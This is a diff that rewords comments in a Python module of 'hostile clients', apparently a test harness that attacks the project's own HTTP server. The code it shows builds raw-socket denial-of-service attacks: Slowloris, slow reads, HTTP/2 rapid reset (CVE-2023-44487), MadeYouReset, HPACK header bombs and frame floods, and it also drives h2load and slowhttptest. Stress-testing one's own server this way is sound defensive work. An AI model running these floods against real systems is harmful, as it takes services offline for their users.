@@ -1,6 +1,6 @@
 """
-Hostile clients. Each attack is a coroutine that goes on until it is cancelled, opens its connections again when they are closed, and counts what
-became of them. They are made of bytes on sockets, because no client library sends what they send.
+Hostile clients. Each attack is a coroutine that runs until it is cancelled. It opens connections again when they are closed, and counts
+what happened to them. The attacks write bytes to sockets, because no client library sends such data.
 """
 
 import asyncio
@@ -22,7 +22,7 @@ END_STREAM, END_HEADERS, ACK = 1, 4, 1
 INITIAL_WINDOW_SIZE = 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 IMAGE = "/public/silly-test-image.jpg"
-PAUSE = 0.2  # Before a connection is opened again, in seconds.
+PAUSE = 0.2  # Seconds before a connection is opened again.
 
 Target = collections.namedtuple("Target", "host port workers admin")
 
@@ -32,7 +32,7 @@ def frame(kind, flags, stream, payload=b""):
 
 
 def text(value):
-    """An HPACK string of less than 127 bytes, or of up to 16 KiB, without Huffman coding."""
+    """Encodes an HPACK string of up to 16 KiB, without Huffman coding."""
     value = value.encode() if isinstance(value, str) else value
     if len(value) < 127:
         return bytes([len(value)]) + value
@@ -41,7 +41,7 @@ def text(value):
 
 
 def field(name, value):
-    """A literal header without indexing (RFC 7541 section 6.2.2)."""
+    """Encodes a literal header without indexing (RFC 7541 section 6.2.2)."""
     return b"\x00" + text(name) + text(value)
 
 
@@ -72,7 +72,7 @@ class Closed(Exception):
 
 
 class Connection:
-    """One socket. What it reads is dropped; `receive_buffer` makes a client that can take little."""
+    """One socket. It drops what it reads. A small `receive_buffer` makes a client that can receive little."""
 
     def __init__(self, target_host, port, counts, receive_buffer=None):
         self.address = (target_host, port)
@@ -104,7 +104,7 @@ class Connection:
         self.counts["bytes sent"] += len(data)
 
     async def read(self):
-        """Some bytes, once there are any."""
+        """Returns some bytes as soon as there are any."""
         try:
             data = await asyncio.get_running_loop().sock_recv(self.socket, 65536)
         except OSError as failure:
@@ -123,7 +123,7 @@ class Connection:
             self.counts["status " + data[9:12].decode()] += 1
 
     async def trickle(self, piece, seconds):
-        """Sends a piece now and then, and reads, until the other side closes."""
+        """Sends a piece at intervals, and reads, until the other side closes."""
         reading = asyncio.ensure_future(self.drain())
         try:
             while not reading.done():
@@ -135,7 +135,7 @@ class Connection:
             reading.cancel()
 
     async def never_read(self):
-        """Waits until the other side closes, and takes nothing."""
+        """Waits until the other side closes, and reads nothing."""
         while True:
             await asyncio.sleep(1)
             try:
@@ -147,7 +147,7 @@ class Connection:
 
 
 async def again(counts, number, once):
-    """Runs `once` on so many connections at the same time, again whenever one of them is closed."""
+    """Runs `once` on this number of connections concurrently, and again each time one of them is closed."""
 
     async def keep():
         while True:
@@ -165,7 +165,7 @@ async def again(counts, number, once):
 
 
 async def slow_heads(target, counts):
-    """500 connections, each with a head that never ends, 12 bytes a second (Slowloris)."""
+    """500 connections, each with headers that never end, 12 bytes a second (Slowloris)."""
 
     async def once():
         async with Connection(target.host, target.port, counts) as c:
@@ -176,7 +176,7 @@ async def slow_heads(target, counts):
 
 
 async def half_open_http1(target, counts):
-    """500 connections, each with the head of a POST and not a byte of its body."""
+    """500 connections, each with the headers of a POST and no byte of its body."""
 
     async def once():
         async with Connection(target.host, target.port, counts) as c:
@@ -187,7 +187,7 @@ async def half_open_http1(target, counts):
 
 
 async def slow_bodies_http1(target, counts):
-    """500 connections, each with a POST whose body comes at a byte a second."""
+    """500 connections, each with a POST whose body arrives at one byte a second."""
 
     async def once():
         async with Connection(target.host, target.port, counts) as c:
@@ -198,7 +198,7 @@ async def slow_bodies_http1(target, counts):
 
 
 async def slow_readers_http1(target, counts):
-    """300 connections that ask for 20 images each and take nothing."""
+    """300 connections that request 20 images each and read nothing."""
 
     async def once():
         async with Connection(target.host, target.port, counts, receive_buffer=2048) as c:
@@ -209,7 +209,7 @@ async def slow_readers_http1(target, counts):
 
 
 async def idle_connections(target, counts):
-    """3,000 connections that say nothing."""
+    """3,000 connections that send nothing."""
 
     async def once():
         async with Connection(target.host, target.port, counts) as c:
@@ -219,7 +219,7 @@ async def idle_connections(target, counts):
 
 
 async def large_heads(target, counts):
-    """500 connections, each with 60 KiB of headers, whose head then stays unfinished."""
+    """500 connections, each with 60 KiB of headers that never end."""
     lines = b"".join(b"x-%d: %s\r\n" % (i, b"a" * 480) for i in range(120))
 
     async def once():
@@ -252,7 +252,7 @@ async def http2(target, counts, number, act, *first_settings, read=True, receive
 
 
 async def half_open_http2(target, counts):
-    """10 connections, each with 1,000 times the head of a POST and not a byte of a body."""
+    """10 connections, each with the headers of 1,000 POSTs and no byte of a body."""
 
     async def act(c):
         block = head("POST", "/echo")
@@ -264,7 +264,7 @@ async def half_open_http2(target, counts):
 
 
 async def slow_bodies_http2(target, counts):
-    """10 connections with 100 POSTs each, whose bodies come at a byte a second."""
+    """10 connections with 100 POSTs each, whose bodies arrive at one byte a second."""
 
     async def act(c):
         await c.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, head("POST", "/echo")) for i in range(100)))
@@ -276,7 +276,7 @@ async def slow_bodies_http2(target, counts):
 
 
 async def slow_readers_http2(target, counts):
-    """10 connections that ask for 100 images each, and open each stream's window by a byte every 10 s."""
+    """10 connections that request 100 images each, and open each stream's window by one byte every 10 s."""
 
     async def act(c):
         await c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head("GET", IMAGE)) for i in range(100)))
@@ -288,7 +288,7 @@ async def slow_readers_http2(target, counts):
 
 
 async def full_windows(target, counts):
-    """300 connections that fill their windows with bodies to be echoed, and take no echo. Every second one sends more than its windows."""
+    """300 connections that fill their windows with bodies to be echoed, and read no echo. Every second connection exceeds its windows."""
     streams = itertools.cycle([16, 100])  # The window of a connection is 1 MiB.
 
     async def act(c):
@@ -301,7 +301,7 @@ async def full_windows(target, counts):
 
 
 async def small_parts(target, counts):
-    """10 connections with 100 POSTs each, which get 600 bytes of body in every 64 KiB: the rest are frames without effect."""
+    """10 connections with 100 POSTs each. Only 600 of every 64 KiB are body; the rest are frames without effect."""
     filler = frame(PING, ACK, 0, bytes(8)) * 3800
 
     async def act(c):
@@ -315,7 +315,7 @@ async def small_parts(target, counts):
 
 
 async def rapid_reset(target, counts):
-    """10 connections that open requests and reset them at once (CVE-2023-44487)."""
+    """10 connections that open requests and reset them immediately (CVE-2023-44487)."""
 
     async def act(c):
         for first in range(1, 1 << 30, 200):
@@ -328,7 +328,7 @@ async def rapid_reset(target, counts):
 
 
 async def made_you_reset(target, counts):
-    """10 connections that make the server reset their requests, by WINDOW_UPDATEs of 0 (CVE-2025-8671)."""
+    """10 connections that make the server reset their requests, with WINDOW_UPDATEs of 0 (CVE-2025-8671)."""
 
     async def act(c):
         for first in range(1, 1 << 30, 200):
@@ -341,7 +341,7 @@ async def made_you_reset(target, counts):
 
 
 async def tunnel_trailers(target, counts):
-    """10 connections that make the server reset their tunnels, by trailers on an extended CONNECT."""
+    """10 connections that make the server reset their tunnels, with trailers on an extended CONNECT."""
     block = (field(":method", "CONNECT") + field(":protocol", "websocket") + b"\x86" + field(":path", "/ws")
              + field(":authority", "attacked.example"))
 
@@ -368,7 +368,7 @@ async def continuation_flood(target, counts):
 
 
 async def header_bomb(target, counts):
-    """10 connections with small header blocks that stand for megabytes: one entry of HPACK's dynamic table, named again and again."""
+    """10 connections with small header blocks that decode to megabytes: they repeat one entry of HPACK's dynamic table."""
     entry = b"\x40" + text("x-bomb") + text("b" * 3900)
 
     async def act(c):
@@ -380,7 +380,7 @@ async def header_bomb(target, counts):
 
 
 async def frame_floods(target, counts):
-    """10 connections that send PING, SETTINGS, PRIORITY, WINDOW_UPDATE and empty DATA without end, and read nothing."""
+    """10 connections that endlessly send PING, SETTINGS, PRIORITY, WINDOW_UPDATE and empty DATA, and read nothing."""
 
     async def act(c):
         await c.send(frame(HEADERS, END_HEADERS, 1, head("POST", "/echo")))
@@ -402,7 +402,7 @@ async def frame_floods(target, counts):
 
 
 async def worker_port(target, counts):
-    """200 connections to the worker port: noise, a request without a token, and silence."""
+    """200 connections to the worker port that send random bytes, a request without a token, or nothing."""
 
     async def once():
         async with Connection(target.host, target.workers, counts) as c:
@@ -427,27 +427,27 @@ async def admin_port(target, counts):
     await again(counts, 50, once)
 
 
-# Tools of others.
+# Programs of others.
 
 
 async def tool(command, counts):
-    """Runs it again and again. It prints what nobody reads."""
+    """Runs a program repeatedly, and drops its output."""
     while True:
         child = await asyncio.create_subprocess_exec(
             *map(str, command), stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL,
-            preexec_fn=lambda: ctypes.CDLL(None).prctl(1, signal.SIGKILL))  # It ends with this process.
+            preexec_fn=lambda: ctypes.CDLL(None).prctl(1, signal.SIGKILL))  # The program ends with this process.
         counts["runs"] += 1
         await child.wait()
         await asyncio.sleep(PAUSE)
 
 
 async def flood(target, counts):
-    """h2load: as many requests as the dispatcher answers, 20 connections with 20 requests each in flight."""
+    """h2load: as many requests as the dispatcher answers, on 20 connections with 20 requests in flight each."""
     await tool([processes.tool("h2load"), "-c", 20, "-m", 20, "-n", 100_000, f"http://{target.host}:{target.port}/ping"], counts)
 
 
 async def slowhttptest(target, counts):
-    """slowhttptest: slow heads, slow bodies and slow reading, 300 connections each."""
+    """slowhttptest: slow headers, slow bodies and slow reading, 300 connections each."""
     url = f"http://{target.host}:{target.port}"
     common = ["-c", 300, "-r", 100, "-l", 3600, "-i", 2]
     program = processes.tool("slowhttptest")
@@ -457,7 +457,7 @@ async def slowhttptest(target, counts):
         tool([program, "-X", *common, "-w", 512, "-y", 1024, "-n", 5, "-z", 32, "-k", 3, "-u", url + IMAGE], counts))
 
 
-# Their requests are whole, so workers may be launched for them.
+# Attacks with complete requests, for which workers may be launched.
 WHOLE_REQUESTS = {"slow-readers-http1", "slow-readers-http2", "flood", "slowhttptest"}
 
 ATTACKS = {
@@ -470,8 +470,11 @@ ATTACKS = {
 
 
 def step_back():
-    """The lowest priority: attackers are other machines. Linux compares priorities within a session only, so the session gets one, too."""
-    ctypes.CDLL(None).prctl(1, signal.SIGKILL)  # It ends with the script.
+    """
+    Sets the lowest priority, because real attackers run on other machines. Linux compares priorities only within a session, so the
+    session gets the lowest priority, too.
+    """
+    ctypes.CDLL(None).prctl(1, signal.SIGKILL)  # This process ends with the script.
     os.nice(19)
     os.setsid()
     for _ in range(20):
@@ -479,13 +482,13 @@ def step_back():
             pathlib.Path("/proc/self/autogroup").write_text("19")
             return
         except BlockingIOError:
-            time.sleep(0.1 + random.random())  # Who is not root may do it ten times a second, all together.
+            time.sleep(0.1 + random.random())  # Without root, Linux permits ten such writes per second, for all processes together.
         except OSError:
-            return  # A kernel without priorities of sessions.
+            return  # This kernel has no session priorities.
 
 
 def run(name, target, counts_out):
-    """In a process of its own, until it is ended. Counts go to `counts_out`, a queue, every second."""
+    """Runs an attack in a separate process until it is ended. Puts counts into the queue `counts_out` every second."""
     step_back()
     counts = collections.Counter()
 
